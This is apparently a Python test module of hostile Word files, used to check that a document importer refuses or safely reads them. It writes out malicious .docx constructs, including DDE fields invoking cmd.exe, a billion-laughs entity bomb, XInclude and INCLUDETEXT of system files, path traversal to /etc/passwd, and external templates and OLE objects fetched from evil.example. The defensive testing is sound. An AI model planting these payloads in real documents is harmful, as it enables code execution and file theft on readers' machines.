"""Word files with something wrong in the container, in its parts, or in what they take from elsewhere."""

import struct
import zipfile
from collections.abc import Iterator
from functools import partial
from io import BytesIO

from reports.importing import text as importing
from reports.importing.word import package as limits
from reports.screening import formats
from tests.hostile import files
from tests.hostile.files import DOCTYPE, LINE, OLE, Hostile, content_types, docx, png_header
from tests.importing.word.packages import SPACE, package, paragraph, parts, relationships

_NAME = "汇报.docx"
refused, read = partial(files.refused, name=_NAME), partial(files.read, name=_NAME)
# A word that becomes a thousand million.
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)).join(
    ('<!DOCTYPE d [<!ENTITY a0 "ha">', "]>")
)
_SPACE = "http://schemas.openxmlformats.org"
_TYPE = f"{_SPACE}/officeDocument/2006/relationships"


def hostile() -> Iterator[Hostile]:
    """Those that are refused, and those of which only the harmless text comes in."""
    yield from _containers()
    yield from _wrong_parts()
    yield from _elsewhere()
    yield from _programs()


def damaged(what: str, data: bytes) -> Hostile:
    """One that is no container, or a broken one."""
    return refused(what, data, formats.DAMAGED, limits.NOT_WORD)


def active(what: str, data: bytes, evidence: str = formats.ACTIVE) -> Hostile:
    """One that holds a program."""
    return refused(what, data, evidence, limits.ACTIVE)


def _containers() -> Iterator[Hostile]:
    good = docx()
    wrong = bytearray(good)
    at = good.index(b"PK\x01\x02") + 16
    wrong[at : at + 4] = b"\0\0\0\0"
    yield damaged("a member's checksum is wrong", bytes(wrong))
    yield read("an end that says 65,535 members", _end(good, count=0xFFFF))
    yield damaged("the directory begins behind the file", _end(good, place=0xFFFFFFF0))
    yield refused("the directory has no length", _end(good, length=0), formats.OTHER_CONTENT, limits.NOT_WORD)
    locator = struct.pack("<LLQL", 0x07064B50, 0, 2**62, 1)
    end = good.rindex(b"PK\x05\x06")
    yield damaged("a zip64 locator leads out of the file", good[:end] + locator + _end(good, place=0xFFFFFFFF)[end:])
    yield refused("two names for the same bytes", _overlapping(good), formats.TOO_PACKED, limits.TOO_PACKED)
    script = b"#!/bin/sh\nexit\n" + good
    yield refused("a script before the container", script, formats.OTHER_CONTENT, limits.NOT_WORD)
    yield read("a program in the container's comment", _commented(good, b"MZ" * 400))
    two = good + docx(paragraph("另一份"))
    yield read("two containers, of which the last counts", two, "另一份")
    yield damaged("a member that ends after 10 bytes", good[:10] + good[40:])
    yield read("a name that ends at a NUL", docx(members={"word/a.xml\0.exe": "<x/>"}))
    for name in ("word\\..\\..\\a.xml", "word:a.xml"):
        yield refused(f"a name like {name}", docx(members={name: "<x/>"}), formats.DAMAGED, limits.UNSAFE_NAMES)
    yield read("a name that runs backwards", docx(members={"word/\u202elmx.exe": "<x/>"}))
    stored = BytesIO()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_BZIP2) as archive:
        for name, content in {"[Content_Types].xml": content_types("docx"), **parts(paragraph(LINE))}.items():
            archive.writestr(name, content)
    yield damaged("packed in a way that Word never uses", stored.getvalue())
    yield refused(
        "an OpenDocument text",
        package({"mimetype": "application/vnd.oasis.opendocument.text"}),
        formats.OTHER_CONTENT,
        limits.NOT_WORD,
    )
    yield refused(
        "a gzip inside", docx(members={"word/media/a.png": b"\x1f\x8b\x08" + bytes(40)}), formats.NESTED, limits.NESTED
    )
    yield refused(
        "an old workbook inside", docx(members={"customXml/a.bin": OLE + bytes(600)}), formats.NESTED, limits.NESTED
    )
    huge = docx(members={"word/media/a.png": png_header(60_000, 60_000)})
    yield refused("a picture of 3,600 million points inside", huge, formats.LARGE_PICTURE, limits.LARGE_PICTURE)
    yield read("a picture that is a web page", docx(members={"word/media/a.png": b"<html><script>alert(1)</script>"}))


def _wrong_parts() -> Iterator[Hostile]:
    usual = {"[Content_Types].xml": content_types("docx"), **parts(paragraph(LINE))}

    def without(name: str) -> bytes:
        return package({one: content for one, content in usual.items() if one != name})

    def instead(name: str, content: str | bytes) -> bytes:
        return package({**usual, name: content})

    yield read("no table of types", without("[Content_Types].xml"), evidence=formats.OTHER_CONTENT)
    yield read(
        "a type of a program",
        instead("[Content_Types].xml", content_types("docx", "application/x-msdownload")),
        evidence=formats.OTHER_CONTENT,
    )
    yield active(
        "a template's type with macros",
        instead(
            "[Content_Types].xml",
            content_types("docx", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        ),
    )
    yield read("no relationships at all", without("_rels/.rels"))
    yield refused("no text at all", without("word/document.xml"), "", limits.NOT_WORD)
    yield refused(
        "the main part leads out of the container",
        instead("_rels/.rels", relationships(officeDocument="../../etc/passwd")),
        "",
        limits.NOT_WORD,
    )
    yield refused(
        "the main part is the relationships",
        instead("_rels/.rels", relationships(officeDocument="_rels/.rels")),
        "",
        limits.NOT_WORD,
    )
    yield read(
        "the styles are the text itself",
        instead(
            "word/_rels/document.xml.rels",
            relationships(styles="document.xml", numbering="document.xml", footnotes="document.xml"),
        ),
    )
    yield read(
        "styles and numbering that aren't there",
        instead("word/_rels/document.xml.rels", relationships(styles="a.xml", numbering="../b.xml", comments="/c.xml")),
    )
    yield damaged("a text that isn't closed", instead("word/document.xml", f"<w:document {SPACE}><w:body>"))
    yield damaged(
        "an encoding that nobody knows",
        instead("word/document.xml", '<?xml version="1.0" encoding="rot13"?>'.encode("utf-32")),
    )
    yield damaged(
        "a NUL as a number",
        instead("word/document.xml", f"<w:document {SPACE}><w:body>{paragraph('&#0;')}</w:body></w:document>"),
    )
    yield damaged(
        "an entity that nobody declared",
        instead("word/document.xml", f"<w:document {SPACE}><w:body>{paragraph('&evil;')}</w:body></w:document>"),
    )
    sheet = '<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>' + usual["word/document.xml"]
    yield read("a stylesheet of another site", instead("word/document.xml", sheet))
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    yield read("an inclusion of a file", docx(include + paragraph(LINE)))
    yield refused(
        "declared entities in a part that nobody reads",
        docx(members={"docProps/a.xml": DOCTYPE + "<x/>"}),
        formats.ACTIVE,
        limits.ENTITIES,
    )
    yield refused(
        "a billion laughs",
        docx(members={"word/document.xml": LAUGHS + "<d>&a9;</d>"}),
        formats.ACTIVE,
        limits.ENTITIES,
    )
    long = f"<w:p><w:r><w:t>{_noise(300_000)}</w:t></w:r></w:p>" * 4
    yield refused("a text of 1,200,000 characters", docx(long), "", importing.TOO_LONG)
    yield read("an attribute of 2 MB", docx(f'<w:p w:rsidR="{_noise(2_000_000)}"/>' + paragraph(LINE)), f"\n{LINE}")
    many = " ".join(f'xmlns:a{n}="urn:{n}"' for n in range(20_000))
    yield read("20,000 namespaces at one element", docx(f"<w:p {many}/>" + paragraph(LINE)), f"\n{LINE}")


def _elsewhere() -> Iterator[Hostile]:
    def outside(kind: str, target: str, part: str = "word/_rels/document.xml.rels", body: str = "") -> bytes:
        one = f'<Relationship Id="r1" Type="{_TYPE}/{kind}" Target="{target}" TargetMode="External"/>'
        rels = f'<Relationships xmlns="{_SPACE}/package/2006/relationships">{one}</Relationships>'
        return docx(body + paragraph(LINE), members={part: rels})

    frames = "word/_rels/webSettings.xml.rels"
    yield read(
        "a frame of another site", outside("frame", "http://evil.example/a.htm", frames), evidence=formats.OUTSIDE
    )
    yield read(
        "a part of the text on another computer", outside("subDocument", "\\\\evil\\a.docx"), evidence=formats.OUTSIDE
    )
    yield read(
        "a template by a slip of letters",
        outside("attachedTemplate", "HTTPS://evil.example/x.dotm", "word/_rels/settings.xml.rels"),
        evidence=formats.OUTSIDE,
    )
    yield refused(
        "an object on another computer",
        outside("oleObject", "http://evil.example/a.sct"),
        formats.ACTIVE,
        limits.ACTIVE,
    )
    yield read("a picture that is fetched", outside("image", "http://evil.example/1.png"))
    yield read(
        "a list of addresses for a mail merge",
        outside("mailMergeSource", "file:///c:/x.mdb", "word/_rels/settings.xml.rels"),
    )
    script = '<w:hyperlink r:id="r1"><w:r><w:t>点这里</w:t></w:r></w:hyperlink>'
    yield read(
        "a link that is a script",
        outside("hyperlink", "javascript:alert(1)", body=f"<w:p>{script}</w:p>"),
        f"点这里\n{LINE}",
    )
    chunk = docx(
        '<w:altChunk r:id="r1"/>' + paragraph(LINE),
        members={
            "word/a.htm": "<script>alert(1)</script>",
            "word/_rels/document.xml.rels": relationships(aFChunk="a.htm"),
        },
    )
    yield read("a web page as a piece of the text", chunk, f"□\n{LINE}")


def _programs() -> Iterator[Hostile]:
    def field(*pieces: str, shown: str = "") -> str:
        inside = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
        begin, middle, end = (
            f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
        )
        return f"<w:p>{begin}{inside}{middle}<w:r><w:t>{shown}</w:t></w:r>{end}</w:p>" + paragraph(LINE)

    yield active(
        "DDE in a simple field",
        docx('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
    )
    yield active("DDE in pieces", docx(field("DD", "EAU", "TO c:\\\\cmd.exe")))
    yield active("DDE in quotes", docx(field('"DDE" c:\\\\cmd.exe')))
    yield active(
        "DDE in a field in a field",
        docx(
            field(
                "QUOTE ", '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd'
            )
        ),
    )
    yield active(
        "DDE in the header",
        docx(
            members={
                "word/header1.xml": f"<w:hdr {SPACE}>{field('DDEAUTO cmd')}</w:hdr>",
                "word/_rels/document.xml.rels": relationships(header="header1.xml"),
            }
        ),
    )
    yield active(
        "DDE in a footnote",
        docx(
            '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>',
            footnotes=f'<w:footnote w:id="2">{field("DDE cmd")}</w:footnote>',
        ),
    )
    yield active("a field that starts a macro", docx(field("MACROBUTTON AutoOpen 点这里")))
    yield active("a field that embeds another file", docx(field('EMBED Package "x.exe"')))
    yield active("a field that links a workbook", docx(field("LINK Excel.Sheet.12 \\\\\\\\evil\\\\a.xlsx")))
    yield read(
        "a field that takes in a file",
        docx(field('INCLUDETEXT "c:\\\\windows\\\\win.ini"', shown="别处的文字")),
        f"别处的文字\n{LINE}",
    )
    yield read(
        "a field that fetches a picture", docx(field('INCLUDEPICTURE "http://evil.example/1.png" \\\\d')), f"\n{LINE}"
    )
    yield active(
        "an ActiveX control in the text",
        docx('<w:p><w:r><w:object><w:control r:id="r9" w:name="x"/></w:object></w:r></w:p>'),
        "",
    )
    yield active(
        "an object in the text",
        docx('<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="r9"/></w:object></w:r></w:p>'),
        "",
    )
    yield active(
        "macros called a picture",
        docx(
            members={
                "word/media/image1.bin": b"x",
                "word/_rels/document.xml.rels": relationships(vbaProject="media/image1.bin"),
            }
        ),
    )
    yield active("data of macros", docx(members={"word/vbaData.xml": "<x/>"}))
    yield read("a ribbon with calls of macros", docx(members={"customUI/customUI.xml": '<customUI onLoad="evil"/>'}))
    yield read("a picture with a script in it", docx(members={"word/media/a.svg": "<svg onload='alert(1)'/>"}))
    yield read("a typeface inside", docx(members={"word/fonts/font1.odttf": bytes(range(256)) * 40}))


def _noise(length: int) -> str:
    """Letters that don't pack far."""
    return "".join(f"{n * 2654435761 % 2**32:08x}" for n in range(length // 8))


def _end(data: bytes, **values: int) -> bytes:
    """The container with another end of its directory."""
    changed = bytearray(data)
    at = data.rindex(b"PK\x05\x06")
    for name, value in values.items():
        first, size = {"count": (8, 2), "length": (12, 4), "place": (16, 4)}[name]
        changed[at + first : at + first + size] = value.to_bytes(size, "little")
        if name == "count":
            changed[at + 10 : at + 12] = value.to_bytes(2, "little")
    return bytes(changed)


def _commented(data: bytes, comment: bytes) -> bytes:
    file = BytesIO(data)
    with zipfile.ZipFile(file, "a") as archive:
        archive.comment = comment
    return file.getvalue()


def _overlapping(data: bytes) -> bytes:
    """The container with a second name for the bytes of its largest member."""
    noise = docx(members={"word/media/a.png": _noise(50_000).encode()})
    start, end = noise.rindex(b"PK\x01\x02"), noise.rindex(b"PK\x05\x06")
    again = noise[start:end].replace(b"a.png", b"b.png") + noise[start:end].replace(b"a.png", b"c.png")
    count = int.from_bytes(noise[end + 8 : end + 10], "little") + 2
    length = int.from_bytes(noise[end + 12 : end + 16], "little") + len(again)
    return _end(noise[:end] + again + noise[end:], count=count, length=length)
